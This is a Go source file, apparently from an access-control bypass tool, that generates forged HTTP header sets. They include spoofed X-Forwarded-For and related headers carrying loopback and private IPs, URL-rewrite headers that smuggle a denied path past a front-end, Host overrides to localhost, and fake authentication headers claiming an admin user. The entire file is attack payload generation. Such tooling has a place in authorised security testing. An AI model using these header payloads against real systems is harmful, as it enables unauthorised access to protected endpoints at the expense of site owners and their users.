package strategy

// HeaderField is a single name/value pair. Request headers are multi-valued
// and order-sensitive, so header overlays are built as slices of fields
// rather than maps.
type HeaderField struct {
	Name  string
	Value string
}

// HeaderSet is an ordered, duplicate-tolerant collection of header
// overlays to apply on top of a request's existing headers.
type HeaderSet []HeaderField

// forwardedForHeaders is the fixed, insertion-ordered set of header names
// this technique cycles through.
var forwardedForHeaders = []string{
	"X-Forwarded-For",
	"X-Real-IP",
	"X-Client-IP",
	"X-Remote-IP",
	"X-Remote-Addr",
	"X-Originating-IP",
	"CF-Connecting-IP",
	"True-Client-IP",
}

// forwardedForIPs is the fixed, insertion-ordered set of spoofed origin
// addresses this technique cycles through.
var forwardedForIPs = []string{
	"127.0.0.1",
	"::1",
	"0.0.0.0",
	"10.0.0.1",
	"172.16.0.1",
	"192.168.1.1",
	"169.254.0.1",
}

// ForwardedForVariants returns one HeaderSet per (header, IP) pair, in
// fixed header-major order: every IP for the first header, then every IP
// for the second, and so on.
func ForwardedForVariants() []HeaderSet {
	out := make([]HeaderSet, 0, len(forwardedForHeaders)*len(forwardedForIPs))
	for _, h := range forwardedForHeaders {
		for _, ip := range forwardedForIPs {
			out = append(out, HeaderSet{{Name: h, Value: ip}})
		}
	}
	return out
}

// rewriteHeaders is the fixed set of headers used to smuggle an original
// path past a front-end that only inspects the request line.
var rewriteHeaders = []string{
	"X-Original-URL",
	"X-Rewrite-URL",
	"X-Forwarded-Path",
	"X-Original-Path",
}

// RewriteVariants returns one HeaderSet per rewrite header, each bound to
// the denied path.
func RewriteVariants(path string) []HeaderSet {
	out := make([]HeaderSet, 0, len(rewriteHeaders))
	for _, h := range rewriteHeaders {
		out = append(out, HeaderSet{{Name: h, Value: path}})
	}
	return out
}

// hostOverrideValues is the fixed set of Host header values that attempt
// to make a request appear to originate from the target itself.
var hostOverrideValues = []string{
	"localhost",
	"127.0.0.1",
	"::1",
	"0.0.0.0",
	"0000::1",
	"0:0:0:0:0:0:0:1",
}

// HostOverrideVariants returns one HeaderSet per Host override value.
func HostOverrideVariants() []HeaderSet {
	out := make([]HeaderSet, 0, len(hostOverrideValues))
	for _, v := range hostOverrideValues {
		out = append(out, HeaderSet{{Name: "Host", Value: v}})
	}
	return out
}

// AuthSpoofVariants returns the fixed set of headers that attempt to
// convince a downstream service the request already passed authentication
// or authorization.
func AuthSpoofVariants() []HeaderSet {
	return []HeaderSet{
		{{Name: "X-Custom-IP-Authorization", Value: "127.0.0.1"}},
		{{Name: "X-Authenticated-User", Value: "admin"}},
		{{Name: "X-Forwarded-User", Value: "admin"}},
		{{Name: "X-Auth-Token", Value: "bypass"}},
		{{Name: "X-Admin", Value: "true"}},
		{{Name: "X-Authorized", Value: "true"}},
	}
}

// HeaderForgeVariants concatenates the four header-forge families in the
// fixed order Forwarded-For, Rewrite, Host-override, Auth-spoof.
func HeaderForgeVariants(path string) []HeaderSet {
	var out []HeaderSet
	out = append(out, ForwardedForVariants()...)
	out = append(out, RewriteVariants(path)...)
	out = append(out, HostOverrideVariants()...)
	out = append(out, AuthSpoofVariants()...)
	return out
}
